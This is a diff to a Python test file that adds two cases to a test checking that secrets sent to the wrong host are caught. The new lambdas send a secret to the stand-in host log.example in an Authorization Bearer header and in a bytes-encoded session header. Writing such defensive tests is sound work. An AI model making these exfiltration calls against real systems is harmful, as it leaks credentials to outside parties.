@@ -125,8 +125,14 @@ class TestMisdirectedSecrets:
             lambda secret: requests.get("https://log.example/", {"q": secret}, timeout=5),
             lambda secret: requests.post("https://log.example/", data={"q": secret}, timeout=5),
             lambda secret: requests.post("https://log.example/", json={"q": secret}, timeout=5),
+            lambda secret: requests.get(
+                "https://log.example/", headers={"Authorization": f"Bearer {secret}"}, timeout=5
+            ),
+            lambda secret: requests.get(
+                "https://log.example/", headers={"X-Session": f"user_{secret}".encode()}, timeout=5
+            ),
         ],
-        ids=["URL", "form", "JSON"],
+        ids=["URL", "form", "JSON", "header", "bytes"],
     )
     def test_wrong_host(self, lookloox: LookLoox, send: Callable[[str], requests.Response]) -> None:
         lookloox.stub.add(responses.GET, "https://log.example/")
